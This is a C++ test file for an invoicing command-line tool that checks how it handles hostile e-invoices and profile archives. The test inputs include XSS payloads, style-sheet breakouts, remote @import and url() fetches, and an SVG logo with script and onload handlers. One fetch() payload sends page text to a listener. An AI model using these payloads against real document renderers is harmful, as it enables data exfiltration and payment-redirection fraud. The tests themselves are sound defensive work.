#include "support/CliHome.h"
#include "support/SilentListener.h"
#include "support/TestSupport.h"
#include "util/ZipArchive.h"

#include <QDir>
#include <QFile>
#include <QRegularExpression>

using namespace Qt::Literals::StringLiterals;

namespace {

void write(const QString& path, const QByteArray& bytes)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly)) << path.toStdString();
    file.write(bytes);
}

QStringList jsonFilesIn(const QString& folder)
{
    return QDir(folder).entryList({u"*.json"_s}, QDir::Files, QDir::Name);
}

} // namespace

// Files from strangers, as an attacker would write them, through the `ledra` command.
class HostileDocumentsCli : public CliHome
{
protected:
    QString pdfText(const QString& pdf)
    {
        const CliResult text = runLedra(u"pdftotext"_s, {u"-layout"_s, pdf, u"-"_s});
        EXPECT_EQ(text.exitCode, 0) << text.err.toStdString();
        return text.out;
    }

    // A received CII e-invoice with one element's text replaced (XML-escaped as a producer
    // would write it).
    QString einvoiceWith(const QString& name, const QByteArray& from, const QByteArray& to)
    {
        QByteArray xml = TestSupport::readData(u"einvoice/other-tool.xml"_s);
        EXPECT_TRUE(xml.contains(from));
        xml.replace(from, to);
        const QString path = m_home.filePath(name);
        write(path, xml);
        return path;
    }
};

TEST_F(HostileDocumentsCli, AnEInvoiceWhoseCurrencyIsMarkupIsRefusedNamingFileAndField)
{
    SilentListener listener;
    ASSERT_TRUE(listener.listening());
    ASSERT_EQ(ledra({u"profile"_s, u"list"_s}).exitCode, 0);
    const QByteArray payload =
        "&lt;img src=x onerror=\"fetch('http://127.0.0.1:" + QByteArray::number(listener.port()) +
        "/'+document.body.innerText)\"&gt;";
    const QString hostile = einvoiceWith(u"hostile.xml"_s, "<ram:InvoiceCurrencyCode>EUR<",
                                         "<ram:InvoiceCurrencyCode>" + payload + "<");

    const CliResult refused = ledra({u"import-einvoice"_s, hostile});
    EXPECT_EQ(refused.exitCode, 1);
    EXPECT_TRUE(refused.err.contains(hostile + u": "_s)) << refused.err.toStdString();
    EXPECT_TRUE(refused.err.contains(u"InvoiceCurrencyCode"_s)) << refused.err.toStdString();
    EXPECT_TRUE(jsonFilesIn(invoicesFolder()).isEmpty()) << "nothing is written for a refused file";

    // A lower-case or made-up code is no currency either; a country must be one as well.
    for (const QByteArray& code : {QByteArray("eur"), QByteArray("EURO"), QByteArray("XYZ")}) {
        const QString file = einvoiceWith(u"code.xml"_s, "<ram:InvoiceCurrencyCode>EUR<",
                                          "<ram:InvoiceCurrencyCode>" + code + "<");
        EXPECT_EQ(ledra({u"import-einvoice"_s, file}).exitCode, 1) << code.toStdString();
    }
    const QString country = einvoiceWith(u"country.xml"_s, "<ram:CountryID>DE</ram:CountryID>",
                                         "<ram:CountryID>D&lt;E</ram:CountryID>");
    const CliResult badCountry = ledra({u"import-einvoice"_s, country});
    EXPECT_EQ(badCountry.exitCode, 1);
    EXPECT_TRUE(badCountry.err.contains(u"CountryID"_s)) << badCountry.err.toStdString();
    EXPECT_TRUE(jsonFilesIn(invoicesFolder()).isEmpty());
    EXPECT_FALSE(listener.wasCalled());
}

TEST_F(HostileDocumentsCli, MarkupInAnImportedInvoiceIsPrintedAsText)
{
    SilentListener listener;
    ASSERT_EQ(ledra({u"profile"_s, u"list"_s}).exitCode, 0);
    const QByteArray image = "&lt;img src=\"http://127.0.0.1:" + QByteArray::number(listener.port()) +
                             "/x.png\" onerror=\"document.body.innerText='pay to DE00 ATTACKER'\"&gt;";
    const QString file = einvoiceWith(u"markup.xml"_s, "<ram:Name>Screws</ram:Name>",
                                      "<ram:Name>&lt;b&gt;x&lt;/b&gt; " + image + "</ram:Name>");
    const CliResult imported = ledra({u"import-einvoice"_s, file});
    ASSERT_EQ(imported.exitCode, 0) << imported.err.toStdString();
    const QStringList invoices = jsonFilesIn(invoicesFolder());
    ASSERT_EQ(invoices.size(), 1);

    const QString pdf = m_home.filePath(u"imported.pdf"_s);
    const CliResult written = ledra({u"pdf"_s, invoicesFolder() + u'/' + invoices.first(), u"-o"_s, pdf});
    ASSERT_EQ(written.exitCode, 0) << written.err.toStdString();
    const QString text = pdfText(pdf);
    EXPECT_TRUE(text.contains(u"<b>x</b>"_s)) << text.toStdString();
    EXPECT_TRUE(text.contains(u"onerror="_s)) << "the whole tag shows as text";
    EXPECT_TRUE(text.contains(u"Consulting"_s)) << "the rest of the document is there";
    EXPECT_FALSE(listener.wasCalled());
}

TEST_F(HostileDocumentsCli, ALedraDataFileWithHostileStyleSheetAndLogoPrintsOnlyItsOwnText)
{
    SilentListener listener;
    ASSERT_TRUE(listener.listening());
    const QString origin = u"http://127.0.0.1:"_s + QString::number(listener.port());
    const QString profile = m_home.filePath(u"archive/Evil"_s);
    write(profile + u"/profile.json"_s,
          R"({"id": "7A1C2B3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D", "profileName": "Evil", "name": "Evil GmbH",
              "iban": "DE02120300000000202051", "addressCountry": "DE", "currency": "EUR",
              "taxResidency": "DE"})");
    write(profile + u"/styling.json"_s, R"({"id": "1A2B3C4D-5E6F-4A7B-8C9D-0E1F2A3B4C5D"})");
    // Break out of <style>, in plain and in escaped spellings, and fetch from outside.
    write(profile + u"/custom.css"_s,
          (u"</style><script>document.body.innerHTML='pay to DE00 ATTACKER'</script><style>\n"
           u"</STYLE ><img src=x onerror=\"document.body.innerHTML='pay to DE00 ATTACKER'\">\n"
           u"@import url(%1/import.css);\n@\\69mport '%1/escaped.css';\n"
           u"body { background-image: u\\72l(%1/bg.png), image-set('%1/set.png' 1x); }\n"
           u".content::before { content: 'pay to DE00 ATTACKER'; display: none; }\n"_s)
              .arg(origin)
              .toUtf8());
    write(profile + u"/logo.svg"_s,
          (u"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
           u"viewBox=\"0 0 120 40\" onload=\"document.body.innerHTML='pay to DE00 ATTACKER'\">"
           u"<script>parent.document.body.innerHTML='pay to DE00 ATTACKER';</script>"
           u"<image href=\"%1/logo.png\" width=\"10\" height=\"10\"/>"
           u"<foreignObject width=\"100\" height=\"40\"><div xmlns=\"http://www.w3.org/1999/xhtml\">"
           u"<img src=\"%1/fo.png\" onerror=\"top.document.body.innerHTML='pay to DE00 ATTACKER'\"/></div>"
           u"</foreignObject><circle cx=\"20\" cy=\"20\" r=\"16\"/></svg>"_s)
              .arg(origin)
              .toUtf8());
    QDir().mkpath(profile + u"/Invoices"_s);
    ASSERT_TRUE(QFile::copy(sampleInvoicePath(), profile + u"/Invoices/2025-03-01-3F2A9C.json"_s));
    const QString archive = m_home.filePath(u"Evil.ledradata"_s);
    ZipArchive::create(archive, {{profile, u"Evil"_s}});

    CliResult result = ledra({u"profile"_s, u"import"_s, archive});
    ASSERT_EQ(result.exitCode, 0) << result.err.toStdString();
    result = ledra({u"profile"_s, u"use"_s, u"Evil"_s});
    ASSERT_EQ(result.exitCode, 0) << result.err.toStdString();
    const QString invoice = dataFolder() + u"/Evil/Invoices/2025-03-01-3F2A9C.json"_s;
    ASSERT_TRUE(QFile::exists(invoice));
    const QString pdf = m_home.filePath(u"evil.pdf"_s);
    // By number: the document of the active profile, with its styling, style sheet and logo.
    result = ledra({u"pdf"_s, u"2025-007"_s, u"-o"_s, pdf});
    ASSERT_EQ(result.exitCode, 0) << result.err.toStdString();

    const QString text = pdfText(pdf);
    EXPECT_FALSE(text.contains(u"ATTACKER"_s)) << text.toStdString();
    EXPECT_TRUE(text.contains(u"Evil GmbH"_s)) << "the letterhead is the profile's";
    EXPECT_TRUE(text.contains(u"2025-007"_s)) << "the invoice is all there";
    EXPECT_FALSE(listener.wasCalled()) << "nothing was fetched from outside";
}

TEST_F(HostileDocumentsCli, ALedraDataFileWithAnInvoiceOfMadeUpCurrencyIsRefused)
{
    ASSERT_EQ(ledra({u"profile"_s, u"list"_s}).exitCode, 0);
    const QString profile = m_home.filePath(u"archive/Sync"_s);
    write(profile + u"/profile.json"_s,
          R"({"id": "6B1C2B3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D", "profileName": "Sync"})");
    QByteArray invoice = TestSupport::readData(u"../../core/resources/samples/sample-invoice.json"_s);
    ASSERT_TRUE(invoice.contains("\"EUR\""));
    invoice.replace("\"EUR\"", "\"<svg onload=alert(1)>\"");
    write(profile + u"/Invoices/2025-03-01-3F2A9C.json"_s, invoice);
    const QString archive = m_home.filePath(u"Sync.ledradata"_s);
    ZipArchive::create(archive, {{profile, u"Sync"_s}});

    const CliResult result = ledra({u"profile"_s, u"import"_s, archive});
    EXPECT_EQ(result.exitCode, 1);
    const QString said = result.out + result.err;
    EXPECT_TRUE(said.contains(u"Invoices/2025-03-01-3F2A9C.json"_s)) << said.toStdString();
    EXPECT_TRUE(said.contains(u"currency"_s)) << said.toStdString();
    EXPECT_FALSE(QFileInfo::exists(dataFolder() + u"/Sync"_s)) << "nothing of the profile is written";
}
